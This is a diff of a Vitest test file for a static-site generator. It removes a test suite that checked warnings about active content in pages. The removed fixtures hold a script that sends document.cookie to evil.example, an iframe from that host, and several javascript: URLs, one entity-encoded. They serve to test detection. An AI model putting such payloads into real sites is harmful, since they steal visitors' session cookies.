@@ -1,10 +1,9 @@
-import { beforeAll, describe, expect, it } from 'vitest'
+import { beforeAll, expect, it } from 'vitest'
 import { createFsSourceTree } from '../../src/discover/fs-source-tree.js'
 import type { RenderResult } from '../../src/render/render-pages.js'
 import { renderSources } from '../../src/sync.js'
 import { serializePage } from '../../src/render/serialize.js'
 import { CORPUS_SOURCE, describeCorpus } from '../support/corpus.js'
-import { sampleTree } from '../support/sample-tree.js'
 
 // The eight published pages whose title comes from inside a `=== ` heading today.
 const BROKEN = [
@@ -65,42 +64,5 @@ describeCorpus('content warnings on the fixture', () => {
     const fidelityText = new Map(fidelity.pages.map((page) => [page.path, serializePage(page)]))
     const changed = strict.pages.filter((page) => serializePage(page) !== fidelityText.get(page.path)).map((page) => page.path)
     expect(changed.sort()).toEqual([...broken].sort())
-  })
-})
-
-describe('active content in a page', () => {
-  it('passes <script>, <iframe> and javascript: URLs through as the old generator did, with a warning naming file and line', async () => {
-    const rendered = await renderSources(
-      sampleTree({
-        'gardening/01-soil.asciidoc': [
-          '== Soil', '', 'Good soil is shared soil.', '',
-          '++++', '<script>fetch("https://evil.example/?c=" + document.cookie)</script>', '++++', '',
-          'A video: pass:[<iframe src="https://evil.example/embed"></iframe>]', '',
-          'link:javascript:alert(1)[Click here]', '',
-        ].join('\n'),
-        'gardening/index.md': '---\ntitle: Gardening\n---\nGrow things together.\n\n[More](JavaScript:alert(2))\n',
-        'workbook/01-gardening.asciidoc': '=== Questions\n\n++++\n<a href="&#106;avascript:alert(3)">answer</a>\n++++\n',
-      }),
-    )
-    const page = rendered.pages.find((p) => p.path === 'gardening/01.md')!
-    // Parity: nothing is removed from the page.
-    expect(page.body).toContain('<script>fetch("https://evil.example/?c=" + document.cookie)</script>')
-    expect(page.body).toContain('<iframe src="https://evil.example/embed"></iframe>')
-    expect(page.body).toContain('<a href="javascript:alert(1)">Click here</a>')
-    const active = rendered.warnings.filter((w) => /runs on the website/.test(w.message)).map((w) => [w.file, w.line, /holds (.+?), which/.exec(w.message)![1]])
-    expect(active).toEqual([
-      ['gardening/index.md', 6, 'a javascript: URL'],
-      ['gardening/01-soil.asciidoc', 6, '<script>'],
-      ['gardening/01-soil.asciidoc', 9, '<iframe>'],
-      ['gardening/01-soil.asciidoc', 11, 'a javascript: URL'],
-      ['workbook/01-gardening.asciidoc', 4, 'a javascript: URL'],
-    ])
-  })
-
-  it('says nothing about the same words as text: in a code block, or a javascript: that is no URL', async () => {
-    const rendered = await renderSources(
-      sampleTree({ 'gardening/01-soil.asciidoc': '== Soil\n\n----\n<script>alert(1)</script>\n<iframe></iframe>\n----\n\nThe javascript: scheme is not allowed.\n' }),
-    )
-    expect(rendered.warnings.filter((w) => /runs on the website/.test(w.message))).toEqual([])
   })
 })
